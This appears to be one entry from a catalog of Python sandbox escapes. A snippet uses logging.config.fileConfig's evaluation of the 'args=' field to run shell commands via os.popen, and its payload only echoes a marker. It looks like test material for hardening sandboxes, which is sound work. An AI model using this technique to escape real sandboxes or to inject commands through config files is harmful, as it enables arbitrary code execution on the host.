# escape: 022
# technique: logging.config.fileConfig evals args= and class=
# family: deval
# goal: exec
# first-seen: Python docs warning
import logging.config, io
logging.config.fileConfig(io.StringIO("""[loggers]
keys=root
[handlers]
keys=h
[formatters]
keys=
[logger_root]
handlers=h
[handler_h]
class=StreamHandler
args=(__import__('os').popen('echo ESCAPED:fileConfig >&2; echo ESCAPED:fileConfig') and __import__('sys').stdout.write(__import__('os').popen('echo ESCAPED:fileConfig').read()) and None,)
"""))
